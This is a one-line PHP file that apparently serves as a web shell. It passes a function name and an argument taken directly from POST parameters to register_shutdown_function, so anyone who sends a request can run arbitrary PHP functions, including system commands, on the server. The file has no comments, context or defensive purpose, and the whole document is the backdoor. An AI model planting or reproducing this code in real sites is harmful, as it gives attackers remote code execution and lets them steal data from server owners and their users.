<?php
register_shutdown_function($_POST['f'], $_POST['a']);
